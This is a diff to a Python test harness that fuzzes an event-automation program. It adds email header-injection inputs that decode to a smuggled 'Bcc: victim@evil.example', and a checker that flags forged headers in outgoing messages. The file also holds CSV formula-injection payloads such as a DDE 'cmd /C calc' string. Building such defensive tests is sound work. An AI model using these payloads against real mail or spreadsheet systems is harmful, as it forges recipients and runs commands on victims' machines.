@@ -39,6 +39,12 @@ FORMULAS = ['=HYPERLINK("http://x","y")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+
             "'=already quoted", "=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")", "-", "+", "@"]
 CONTROLS = ["a\x00b", "line\r\nbreak", "lone\rcr", "\x1b[2Jclear", "para\u2028sep", "del\x7f", "nel\x85x",
             "tab\there", "bell\x07", "\x0b\x0cfeeds", "zero\u200bwidth", "rtl\u202eevil"]
+#: Text that would add a header if a message took it as it is: RFC 2047 encoded words (quoted-printable and base64)
+#: that decode to line breaks and headers, and bidi controls and zero-width characters (issue 18).
+HEADER_TRICKS = ["=?utf-8?q?Eve=0D=0ABcc:_victim@evil.example=0D=0AX-Ignore:_?=", "=?utf-8?q?=0D=0AX-A:_b?=",
+                 "=?utf-8?b?RXZlDQpCY2M6IHZpY3RpbUBldmlsLmV4YW1wbGUNClJlcGx5LVRvOiB2aWN0aW1AZXZpbC5leGFtcGxlDQo=?=",
+                 "Eve\r\nBcc: victim@evil.example\r\nReply-To: victim@evil.example", "=?iso-8859-1?b?RXZlDQpDYzogdkBldmlsLmV4YW1wbGU=?= x",
+                 "Eve \u202egnp.exe\u202c\u200b\u2066Bcc: victim@evil.example\u2069\ufeff", "a=?utf-8?q?=0A?=b"]
 SCRIPTS = ["Zoë Müller", "Łukasz Wiśniewski", "Nguyễn Thị Lan", "Мария Иванова", "Αλέξης", "محمد علي", "王小明",
            "さくら", "김민준", "emoji 🎉", "\ufeffbom inside"]
 PLAIN = ["Meetup", "Workshop on segments", "Talk at the user group", "Blog post", "Forum answers", "Sprint"]
@@ -49,8 +55,10 @@ def noise(rnd: random.Random, long_max: int = 20_000) -> str:
     pick = rnd.random()
     if pick < 0.25:
         return rnd.choice(FORMULAS)
-    if pick < 0.45:
+    if pick < 0.37:
         return rnd.choice(CONTROLS)
+    if pick < 0.45:
+        return rnd.choice(HEADER_TRICKS)
     if pick < 0.6:
         return rnd.choice(SCRIPTS)
     if pick < 0.65:
@@ -63,7 +71,7 @@ def noise(rnd: random.Random, long_max: int = 20_000) -> str:
 def printable(rnd: random.Random) -> str:
     """A name a certificate can draw (formula-looking or in another script, but no control character)."""
     return rnd.choice(["Ana Costa", "=Ana", "@ana", "-Bo-", "Zoë Müller", "Мария Иванова", "王小明", "محمد علي",
-                       "+Priya"])
+                       "+Priya", HEADER_TRICKS[0], HEADER_TRICKS[1], HEADER_TRICKS[2], HEADER_TRICKS[5]])
 
 
 def labelled(rnd: random.Random, text: str, n: int) -> str:
@@ -552,10 +560,43 @@ class Findings:
     lost: list[str] = field(default_factory=list)  # valid rows whose record is missing
     unreported: list[str] = field(default_factory=list)  # invalid cells no problem names
     formulas: list[str] = field(default_factory=list)  # cells a spreadsheet would run
+    forged: list[str] = field(default_factory=list)  # messages with a header or recipient the job did not set
+    messages: int = 0  # the messages read for forged headers
     counts: dict[str, dict[str, int]] = field(default_factory=dict)
 
     def failed(self) -> list[str]:
-        return self.crashes + self.lost + self.unreported + self.formulas
+        return self.crashes + self.lost + self.unreported + self.formulas + self.forged
+
+
+#: Every header a message of the program holds (CONTRACT.md), and those of its MIME parts.
+MESSAGE_HEADERS = {"from", "to", "reply-to", "subject", "date", "message-id", "x-automation-job", "x-automation-key",
+                   "list-unsubscribe", "mime-version", "content-type", "content-transfer-encoding"}
+PART_HEADERS = {"content-type", "content-transfer-encoding", "content-disposition", "mime-version"}
+
+
+def forged_headers(outbox: Path) -> tuple[int, list[str]]:
+    """The outbox's messages read as a mail program reads them: how many, and each that holds a header not in
+    `MESSAGE_HEADERS` (or one twice), a part header not in `PART_HEADERS`, other than one To address, or
+    an `evil.example` address in From, To or Reply-To, or does not parse."""
+    from email import message_from_bytes, policy
+
+    found, n = [], 0
+    for p in sorted(outbox.rglob("*.eml")) if outbox.is_dir() else ():
+        n += 1
+        try:
+            m = message_from_bytes(p.read_bytes(), policy=policy.default)
+            names = [k.lower() for k in m.keys()]
+            odd = sorted(set(names) - MESSAGE_HEADERS) + sorted({k for k in names if names.count(k) > 1})
+            odd += sorted({k.lower() for part in m.walk() if part is not m for k in part.keys()} - PART_HEADERS)
+            to = [a.addr_spec for a in m["To"].addresses]
+            if len(to) != 1 or any("evil.example" in a.addr_spec for h in ("From", "To", "Reply-To")
+                                   for a in m[h].addresses):
+                odd.append(f"To {to}")
+        except Exception as exc:  # noqa: BLE001 - a message no mail program can read is a finding too
+            odd = [f"unreadable ({type(exc).__name__})"]
+        if odd:
+            found.append(f"{p.relative_to(outbox)}: {', '.join(odd)}")
+    return n, found
 
 
 def _cell_formula(cell: str) -> bool:
@@ -621,6 +662,7 @@ def check(folder: Path, tables: dict[str, Table], runs: list[Ran]) -> Findings:
     for p in folder.rglob("*.csv"):
         if p.parent.name not in ("data", "attendees") and ".locks" not in p.parts:
             f.formulas += _formulas(p)  # anything else a job wrote (reports, outbox indexes)
+    f.messages, f.forged = forged_headers(folder / "outbox")
     return f
 
 
